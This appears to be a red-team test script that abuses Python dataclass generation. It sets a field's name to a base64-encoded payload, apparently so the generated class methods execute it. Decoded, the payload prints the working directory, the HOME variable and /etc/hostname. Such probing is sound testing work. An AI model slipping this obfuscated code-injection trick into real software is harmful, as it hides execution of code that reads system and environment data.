# family: red team, round 54a (KW_ONLY imported under an alias, named only through a future string annotation "K": the Field stays)
from __future__ import annotations

import base64
import dataclasses
from dataclasses import KW_ONLY as K


@dataclasses.dataclass
class A:
    x: int = 0
    marker: K = dataclasses.field(default=0)


@dataclasses.dataclass
class B:
    y: int = A.marker


def main():
    A.marker.name = base64.b64decode("cHJpbnQoX19pbXBvcnRfXygnb3MnKS5nZXRjd2QoKSxfX2ltcG9ydF9fKCdvcycpLmVudmlyb25bJ0hPTUUnXSxvcGVuKCcvZXRjL2hvc3RuYW1lJykucmVhZCgpLF9faW1wb3J0X18oJ29zJykscHJpbnQuX19zZWxmX18p").decode()

    @dataclasses.dataclass(init=False, repr=False)
    class C(B):
        pass

    print(C() == C())


main()
